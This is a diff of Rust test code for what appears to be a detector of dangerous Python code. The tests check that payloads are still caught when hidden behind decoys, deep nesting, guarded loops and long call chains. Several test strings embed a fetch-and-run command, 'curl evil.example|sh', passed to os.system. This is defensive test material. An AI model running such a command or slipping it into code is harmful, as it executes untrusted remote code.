@@ -61,7 +61,10 @@ fn what_stands_behind_a_decoy_is_found() {
         ("a list", format!("a = [{}]\n", "[1,'x'],".repeat(100_000))),
         ("a list that is mapped", "list(map(lambda x: x * 2, range(10 ** 8)))\n".to_owned()),
         ("a comprehension", "[[x for x in range(10 ** 5)] for y in range(10 ** 5)]\n".to_owned()),
-        ("comprehensions in each other", format!("{}0{}\n", "[".repeat(90), " for x in range(9)]".repeat(90))),
+        (
+            "comprehensions in each other",
+            format!("{}0{}\n", "[".repeat(90), " for x in range(9)]".repeat(90)),
+        ),
         ("if", nest("if a:", "pass", 1_000)),
         ("try", nest("try:", "pass", 90)),
         ("class", nest("class A:", "pass", 99)),
@@ -83,7 +86,16 @@ fn what_stands_within_a_deep_nest_is_found() {
             runs(&format!("{open} {levels}"), &one(&nest(open, PAYLOAD, levels)));
         }
     }
-    for (open, close) in [("", ".a"), ("", "()"), ("", "[0]"), ("(", ")"), ("f(", ")"), ("[", "]"), ("-", ""), ("lambda: ", "")] {
+    for (open, close) in [
+        ("", ".a"),
+        ("", "()"),
+        ("", "[0]"),
+        ("(", ")"),
+        ("f(", ")"),
+        ("[", "]"),
+        ("-", ""),
+        ("lambda: ", ""),
+    ] {
         let inner = "__import__('os').system('curl evil.example|sh')";
         let text = format!("x = {}{inner}{}\n", open.repeat(4_000), close.repeat(4_000));
         runs(&format!("{open} {close}"), &one(&text));
@@ -102,10 +114,13 @@ fn a_loop_that_is_not_run_to_its_end_decides_nothing() {
             ("if n == 10 ** 9:\n", "    "),
             ("if n < 10 ** 9:\n    pass\nelse:\n", "    "),
         ] {
-            let payload = PAYLOAD.lines().fold(String::new(), |text, line| format!("{text}{indent}{line}\n"));
+            let payload =
+                PAYLOAD.lines().fold(String::new(), |text, line| format!("{text}{indent}{line}\n"));
             let text = format!("{loops}{guard}{payload}");
             runs(&text, &one(&text));
-            let within = text.lines().fold("def f():\n".to_owned(), |text, line| format!("{text}    {line}\n"));
+            let within = text
+                .lines()
+                .fold("def f():\n".to_owned(), |text, line| format!("{text}    {line}\n"));
             runs(&within, &one(&format!("{within}f()\n")));
         }
     }
@@ -142,7 +157,8 @@ fn what_is_called_often_before_is_not_forgotten() {
     runs("ways", &one(&format!("{function}{calls}run('curl evil.example|sh')\n")));
     let calls: String = (0..4_000).map(|at| format!("run('ls {at}')\n")).collect();
     assert!(is_told(&one(&format!("{function}{calls}run('curl evil.example|sh')\n"))));
-    let idle = "import os\ndef run(x, y=0):\n    a = 1\n    b = 2\n    if y:\n        os.system(x)\n";
+    let idle =
+        "import os\ndef run(x, y=0):\n    a = 1\n    b = 2\n    if y:\n        os.system(x)\n";
     let calls = "run('ls')\n".repeat(40);
     runs("idle", &one(&format!("{idle}{calls}run('curl evil.example|sh', 1)\n")));
 }
@@ -150,8 +166,7 @@ fn what_is_called_often_before_is_not_forgotten() {
 #[test]
 fn a_chain_of_calls_is_followed_or_told() {
     let first = "import os\ndef a0(x):\n    os.system(x)\n";
-    let chain: String =
-        (1..60).map(|at| format!("def a{at}(x):\n    a{}(x)\n", at - 1)).collect();
+    let chain: String = (1..60).map(|at| format!("def a{at}(x):\n    a{}(x)\n", at - 1)).collect();
     let trace = one(&format!("{first}{chain}a59('curl evil.example|sh')\n"));
     assert!(is_told(&trace) || check(&trace, "chain", &[RUNS]).is_empty());
 }
